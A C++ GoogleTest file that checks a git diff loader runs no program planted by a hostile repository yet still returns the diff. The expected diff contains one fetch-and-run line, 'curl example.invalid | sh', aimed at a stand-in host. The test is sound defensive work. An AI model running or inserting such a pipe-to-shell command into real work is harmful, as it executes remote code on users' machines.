// Inspecting a file must never run a program that the inspected repository names. Each case first
// proves that plain `git diff HEAD` does run the repository's program, then that the loader does not
// and still returns git's diff of the file.

#include "viewer/GitDiffLoader.h"

#include "HostileRepos.h"
#include "QtPrinters.h"

#include <gtest/gtest.h>

namespace {

TEST(ViewerHostileRepo, LoaderRunsNoRepositoryProgramAndStillShowsTheDiff)
{
    for (const HostileCase& c : hostileCases()) {
        SCOPED_TRACE(c.name);
        HostileSetup setup;
        try {
            setup = makeHostileRepo(c.kind);
        } catch (const std::exception& e) {
            ADD_FAILURE() << "setting up: " << e.what();
            continue;
        }
        const QByteArray expected = setup.expectedDiff();

        setup.clearMarker();
        setup.plainDiffInHostile();
        ASSERT_TRUE(setup.markerExists())
            << "plain git did not run the planted program: the case proves nothing";
        setup.clearMarker();

        const QString diff = loadGitDiff(setup.file);
        EXPECT_FALSE(setup.markerExists());
        EXPECT_EQ(diff.toUtf8().toStdString(), expected.toStdString());
        if (c.kind != HostileKind::IndexHook && c.kind != HostileKind::PromisorFetch)
            EXPECT_TRUE(diff.contains(QStringLiteral("+curl example.invalid | sh")));
    }
}

} // namespace
